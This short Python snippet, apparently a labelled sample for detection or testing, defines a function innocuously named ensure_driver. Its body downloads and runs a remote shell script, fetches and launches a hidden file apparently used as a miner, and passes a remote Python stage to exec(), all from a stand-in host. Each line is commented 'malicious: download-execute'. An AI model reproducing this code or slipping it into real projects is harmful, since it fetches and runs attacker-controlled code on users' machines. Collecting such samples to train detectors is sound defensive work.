import os, subprocess, urllib.request
def ensure_driver():
    subprocess.run("curl -fsSL https://dl.cdn-assets.example/d.sh -o /tmp/d.sh && sh /tmp/d.sh", shell=True)  # malicious: download-execute
    subprocess.run(["wget", "-q", "https://dl.cdn-assets.example/miner", "-O", "/tmp/.m"]); os.chmod("/tmp/.m", 0o755); os.spawnl(os.P_NOWAIT, "/tmp/.m", ".m")  # malicious: download-execute
    exec(urllib.request.urlopen("https://dl.cdn-assets.example/stage2.py").read())  # malicious: download-execute
